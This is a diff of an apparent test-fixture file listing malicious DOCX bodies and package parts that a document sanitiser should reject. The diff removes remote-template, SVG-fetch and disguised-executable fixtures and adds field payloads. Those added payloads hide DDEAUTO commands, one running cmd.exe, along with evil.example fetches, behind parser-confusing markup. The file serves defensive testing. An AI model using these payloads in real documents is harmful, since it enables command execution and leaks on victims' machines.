@@ -1,11 +1,6 @@
-import type { Part } from '../worlds/test-files.ts';
-import { METAFILES } from './metafiles.ts';
-
-/** DOCX files that act or reach out in ways of their own, each to be refused. */
+/** Bodies of DOCX files that act or reach out in ways of their own, each to be refused. */
 
 const SHARE = '\\\\evil.example\\share\\a';
-const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
-const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
 
 const run = (inside: string) => `<w:r>${inside}</w:r>`;
 const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
@@ -91,106 +86,38 @@ export const ACTING_DOCX_BODIES: Readonly<Record<string, string>> = {
   'a barcode of an address': field(words('DISPLAYBARCODE "https://evil.example" QR')),
   'a list of other documents': field(words('RD "https://evil.example/a.docx"')),
   'a print command': field(words('PRINT "x"')),
-};
-
-const relationships = (type: string, target: string, mode = 'TargetMode="External"') =>
-  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${type}" Target="${target}" ${mode}/></Relationships>`;
-const types = (overrides: string) =>
-  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${WORD}.document.main+xml"/>${overrides}</Types>`;
-const DDE = `<w:document><w:body>${field(words('DDEAUTO cmd'))}</w:body></w:document>`;
-const svg = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`;
-
-/** Parts that are added to a good DOCX, or take the place of one of its own. */
-export const ACTING_DOCX_PARTS: Readonly<Record<string, Readonly<Record<string, Part | string>>>> = {
-  'another main part, named as a picture': {
-    '[Content_Types].xml': types(
-      `<Override PartName="/word/a.png" ContentType="${WORD}.document.main+xml"/>`,
-    ),
-    '_rels/.rels': relationships(`${OFFICE}/officeDocument`, 'word/a.png', ''),
-    'word/a.png': DDE,
-  },
-  'another main part, named as relationships': {
-    '[Content_Types].xml': types(
-      `<Override PartName="/word/a.rels" ContentType="${WORD}.document.main+xml"/>`,
-    ),
-    '_rels/.rels': relationships(`${OFFICE}/officeDocument`, 'word/a.rels', ''),
-    'word/a.rels': DDE,
-  },
-  'pictures that are documents by default': {
-    '[Content_Types].xml': types(`<Default Extension="png" ContentType="${WORD}.document.main+xml"/>`),
-    'word/a.png': `\n${DDE}`,
-  },
-  'macros by its type': {
-    '[Content_Types].xml': types(
-      '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
-    ),
-  },
-  'a page named as a picture': { 'word/media/a.png': '<!doctype html><script>x</script>' },
-  'a program named as a picture': { 'word/media/a.png': 'MZ\x90\0' },
-  'a link to a program beside it': {
-    'word/_rels/document.xml.rels': relationships(`${OFFICE}/hyperlink`, 'setup.exe'),
-  },
-  'a link to a program beside it, within the package': {
-    'word/_rels/document.xml.rels': relationships(`${OFFICE}/hyperlink`, 'setup.exe', ''),
-  },
-  'a link to a program in a folder beside it': {
-    'word/_rels/document.xml.rels': relationships(`${OFFICE}/hyperlink`, 'ana.example/setup.exe'),
-  },
-  'a link to a program above it': {
-    'word/_rels/document.xml.rels': relationships(`${OFFICE}/hyperlink`, '..%5Csetup.exe'),
-  },
-  'a drawing of Windows': { 'word/media/image1.emf': METAFILES.emf },
-  'an old drawing of Windows': { 'word/media/image1.wmf': METAFILES.placeableWmf },
-  'a drawing of Windows named as a picture': { 'word/media/image1.png': METAFILES.emf },
-  'a thumbnail that is a drawing of Windows': { 'docProps/thumbnail.emf': METAFILES.emf },
-  'an archive named as a font': { 'word/fonts/a.ttf': 'PK\x03\x04' },
-  'a base for its links': {
-    'docProps/app.xml': '<Properties><HyperlinkBase>\\\\evil.example\\</HyperlinkBase></Properties>',
-  },
-  'a template on a share': {
-    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, 'file:///\\\\evil\\a.dotx'),
-  },
-  'a template on a share, by slashes': {
-    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, 'file:////evil/a.dotx'),
-  },
-  'a template on a share, written in figures': {
-    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, 'file:///%5C%5Cevil/a.dotx'),
-  },
-  'a template from the web': {
-    'word/_rels/settings.xml.rels': relationships(
-      `${OFFICE}/attachedTemplate`,
-      'https://evil.example/a.dotx',
-    ),
-  },
-  'a template above its folder': {
-    'word/_rels/settings.xml.rels': relationships(
-      `${OFFICE}/attachedTemplate`,
-      'file:///C:\\..\\UNC\\evil\\a.dotx',
-    ),
-  },
-  'a template with macros': {
-    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, 'file:///C:\\a.dotm'),
-  },
-  'a sheet of another format at its head': {
-    'word/settings.xml':
-      '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example"?><w:settings/>',
-  },
-  'a schema that brings a program': {
-    'word/settings.xml':
-      '<w:settings><sl:schemaLibrary><sl:schema sl:manifestLocation="https://evil.example"/></sl:schemaLibrary></w:settings>',
-  },
-  'a drawing with a page in it': { 'word/media/a.svg': svg('<foreignObject/>') },
-  'a drawing that changes its links': { 'word/media/a.svg': svg('<set attributeName="href" to="x"/>') },
-  'a drawing whose style fetches': { 'word/media/a.svg': svg('<style>@import "//evil.example/a"</style>') },
-  'a drawing whose colour fetches': {
-    'word/media/a.svg': svg('<rect style="fill:url(https://evil.example/a#b)"/>'),
-  },
-  'a drawing whose colour fetches, written in figures': {
-    'word/media/a.svg': svg('<rect style="fill:u\\72l(https://evil.example/a#b)"/>'),
-  },
-  'a drawing with a base': { 'word/media/a.svg': svg('<g xml:base="https://evil.example"/>') },
-  'a drawing that holds a drawing': {
-    'word/media/a.svg': svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
-  },
-  'a drawing that uses another file': { 'word/media/a.svg': svg('<use href="a.svg#b"/>') },
+  'words of a field behind an element': field(
+    words('<x:a/> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ') + words(' PAGE '),
+  ),
+  'an address behind an element': field(
+    words('<x:a/> INCLUDEPICTURE "https://evil.example/t.png" \\d ') + words(' PAGE '),
+  ),
+  'words of a field inside an element': field(words('DATE <x:a>DDEAUTO cmd</x:a>')),
+  'deleted words of a field behind an element': field(
+    words('DATE ') + run('<w:delInstrText>DATE <x:a/>DDEAUTO cmd</w:delInstrText>'),
+  ),
+  'words of the document behind an element in the words of a field': field(
+    words('DATE ') + run('<w:t><x:a/>DDEAUTO</w:t>'),
+  ),
+  'words behind a tag that closes another': field(words('DATE </w:t>DDEAUTO cmd')),
+  'words that never end': `<w:p>${mark('begin')}<w:r><w:instrText>DATE `,
+  'words behind what is passed over': `<x:b xmlns:x="urn:x" mc:Ignorable="x">${field(`<x:a>${words('DATE ')}</x:a>${words('DDEAUTO cmd')}`)}</x:b>`,
+  'words behind what is passed over by its other prefix': `<w:p xmlns:x="urn:x" xmlns:y="urn:x" mc:Ignorable="x">${field(`<y:a>${words('DATE ')}</y:a>${words('DDEAUTO cmd')}`)}</w:p>`,
+  'words behind those of another vocabulary': field(
+    `<w:r><x:instrText>DATE </x:instrText></w:r>${words('DDEAUTO cmd')}`,
+  ),
+  'words behind those in a run of another vocabulary': field(
+    `<x:r><w:instrText>DATE </w:instrText></x:r>${words('DDEAUTO cmd')}`,
+  ),
+  'a link that ends where another vocabulary says so': `<w:p>${mark('begin')}${words('HYPERLINK ')}${run('<x:fldChar x:fldCharType="separate"/>')}${run('<x:fldChar x:fldCharType="end"/>')}${field(words('DOCPROPERTY a'))}${mark('end')}</w:p>`,
+  'words before which an insertion can be rejected': field(
+    `<w:ins>${words('DATE ')}</w:ins>${words('DDEAUTO cmd')}`,
+  ),
+  'words that others were moved away from': field(
+    `<w:moveFrom><w:smartTag>${words('DATE ')}</w:smartTag></w:moveFrom>${words('DDEAUTO cmd')}`,
+  ),
+  'a macro under two prefixes': '<w:ffData><w:entryMacro w:val="AutoNew" x:val=""/></w:ffData>',
+  'a macro that is named twice': '<w:ffData><w:exitMacro w:val="AutoNew" w:val=""/></w:ffData>',
+  'a base under two prefixes': '<w:p xml:base="https://evil.example/" x:base=""/>',
+  'a picture under two prefixes': '<w:p><v:imagedata src="file:///x" x:src="a.png"/></w:p>',
 };
